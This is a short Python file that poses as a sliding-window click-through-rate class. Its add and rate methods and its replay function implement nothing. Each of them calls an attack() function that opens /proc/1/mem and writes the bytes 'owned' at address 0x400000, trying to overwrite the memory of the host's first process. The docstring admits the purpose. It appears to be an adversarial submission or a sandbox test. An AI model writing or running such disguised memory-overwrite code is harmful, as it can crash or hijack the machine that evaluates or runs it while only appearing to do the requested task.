"""Overwrites the worker's memory."""


class SlidingCTR:
    def __init__(self, window):
        self.window = window

    def add(self, t, item, clicked):
        attack()

    def rate(self, t, item):
        return attack()


def replay(window, log):
    return attack()


def attack():
    for mode in ("r+b", "wb"):
        try:
            with open("/proc/1/mem", mode, buffering=0) as memory:
                memory.seek(0x400000)
                memory.write(b"owned")
                return 0.0
        except OSError as error:
            refused = error
    raise refused
